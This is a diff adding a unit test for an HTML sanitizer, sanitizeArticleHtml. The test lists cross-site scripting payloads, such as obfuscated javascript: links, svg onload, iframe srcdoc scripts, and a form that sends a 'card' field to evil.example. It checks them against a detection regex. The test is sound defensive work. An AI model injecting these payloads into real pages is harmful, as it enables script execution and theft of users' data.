@@ -10,6 +10,28 @@ describe("sanitizeArticleHtml", () => {
     expect(clean).toBe("<p>Hi</p><a>a</a><img /><a>b</a>");
   });
 
+  it("removes disguised and foreign active content", () => {
+    const attacks = [
+      '<a href="JaVaScRiPt:alert(1)">x</a>',
+      '<a href="&#106;avascript:alert(1)">x</a>',
+      '<a href=" javascript:alert(1)">x</a>',
+      '<img src="javascript:alert(1)">',
+      "<svg onload=alert(1)><circle /></svg>",
+      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+      "<style>body{display:none}</style>",
+      '<object data="x.swf"></object><embed src="x.swf">',
+      '<form action="https://evil.example"><input name="card"></form>',
+      '<p style="background:url(javascript:alert(1))">x</p>',
+      '<a href="//evil.example">x</a>',
+    ];
+    for (const html of attacks) {
+      const clean = sanitizeArticleHtml(html);
+      expect(clean, html).not.toMatch(
+        /javascript|onload|script|<svg|<style|<object|<embed|<form|<input|background|evil/i,
+      );
+    }
+  });
+
   it("keeps editor markup, safe links, relative images, widths and alignment", () => {
     const html =
       '<h2 style="text-align:center">T</h2><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s></p>' +
